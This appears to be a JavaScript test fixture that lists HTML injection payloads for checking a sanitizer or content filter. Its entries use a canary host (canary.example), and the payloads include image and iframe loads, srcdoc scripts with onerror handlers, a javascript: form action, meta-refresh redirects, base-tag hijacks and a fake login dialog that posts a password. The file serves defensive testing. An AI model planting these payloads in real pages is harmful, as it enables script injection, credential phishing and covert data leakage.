/** @import { Attack, Canary } from './attack.mjs' */

/** @type {[string, (canary: Canary) => string, Partial<Attack>?][]} */
const INJECTED = [
  ['an image', ({ url }) => `<img src="${url}">`],
  ['an image’s set of sources', ({ url }) => `<img srcset="${url} 1x">`],
  ['a picture’s source', ({ url }) => `<picture><source srcset="${url}"><img></picture>`],
  ['an image without a referrer', ({ url }) => `<img referrerpolicy=unsafe-url src="${url}">`],
  ['a frame', ({ url }) => `<iframe src="${url}"></iframe>`],
  ['a frame’s own page', ({ js }) => `<iframe srcdoc="<img src=x: onerror=${js}>"></iframe>`],
  ['a frame’s own script', ({ js }) => `<iframe srcdoc="&lt;script>${js}&lt;/script>"></iframe>`],
  ['an object', ({ url }) => `<object data="${url}"></object>`],
  ['an embedded page', ({ url }) => `<embed src="${url}" type="text/html">`],
  ['a film', ({ url }) => `<video src="${url}"></video>`],
  ['a film’s poster', ({ url }) => `<video poster="${url}"></video>`],
  ['a sound', ({ url }) => `<audio src="${url}" preload=auto></audio>`],
  [
    'a film’s subtitles',
    ({ url }) => `<video crossorigin><track default src="${url}"></video>`,
    { live: 'harm', harm: `it.querySelector('track').src.includes('canary.example')` },
  ],
  ['a picture button', ({ url }) => `<input type=image src="${url}">`],
  ['a page that is sent on', ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  [
    'a page that is sent on, oddly written',
    ({ url }) => `<meta http-equiv=ReFresh content=" 0 , URL = '${url}'">`,
  ],
  ['a base that bends every link', ({ url }) => `<base href="${url}/"><a href="x">a</a>`, { act: 'click' }],
  [
    'a base that bends every target',
    ({ url }) => `<base target="_self"><a href="${url}">a</a>`,
    { act: 'click', place: 'beside' },
  ],
  ['a preload', ({ url }) => `<link rel=preload as=image href="${url}">`],
  ['a prefetch', ({ url }) => `<link rel=prefetch href="${url}">`],
  ['a module’s preload', ({ url }) => `<link rel=modulepreload href="${url}">`],
  [
    'an icon',
    ({ url }) => `<link rel="shortcut icon" href="${url}">`,
    { live: 'harm', harm: `it.href.includes('canary.example')` },
  ],
  [
    'an import of old',
    ({ url }) => `<link rel=import href="${url}">`,
    { live: 'harm', harm: `it.href.includes('canary.example')` },
  ],
  ['a form', ({ url }) => `<form action="${url}"><button data-it>a</button></form>`, { act: 'submit' }],
  [
    'a form that posts',
    ({ url }) => `<form method=post action="${url}"><input name=a value=b><button data-it>a</button></form>`,
    { act: 'submit' },
  ],
  [
    'a button that bends its form',
    ({ url }) => `<form action="/"><button data-it formaction="${url}">a</button></form>`,
    { act: 'submit' },
  ],
  [
    'a button that sends a script',
    ({ js }) => `<form><button data-it formaction="javascript:${js}">a</button></form>`,
    { act: 'submit' },
  ],
  [
    'a button of a form elsewhere',
    ({ url }) => `<form id=f></form><button form=f data-it formaction="${url}">a</button>`,
    { act: 'click' },
  ],
  [
    'a form in a dialog',
    ({ url }) =>
      `<dialog open><form action="${url}"><input type=password name=p><button data-it>Log in</button></form></dialog>`,
    { act: 'submit' },
  ],
  ['a ping', ({ url }) => `<a ping="${url}" href="#">a</a>`, { act: 'click' }],
  [
    'a link that attributes',
    ({ url }) => `<a target=_self href="${url}" attributionsrc rel=opener>a</a>`,
    { act: 'click', place: 'beside' },
  ],
  [
    'a button with a popover',
    ({ js }) => `<button data-it popovertarget=p>a</button><div id=p popover onbeforetoggle=${js}>b</div>`,
    { act: 'click' },
  ],
  [
    'an editable part',
    () => `<p contenteditable autofocus>a</p>`,
    { live: 'harm', harm: `it.isContentEditable` },
  ],
  [
    'a key of the keyboard',
    () => `<a accesskey="x" href="http://canary.example/">a</a>`,
    { live: 'harm', harm: `it.accessKey === 'x'` },
  ],
  ['a slot and a part', () => `<p slot="x" part="y" is="z">a</p>`, { live: 'harm', harm: `it.slot === 'x'` }],
];

/** Forms, frames, media and what else fetches, navigates or asks for input. @type {Attack[]} */
export const injection = INJECTED.map(([name, payload, more]) => ({ name, payload, ...more }));
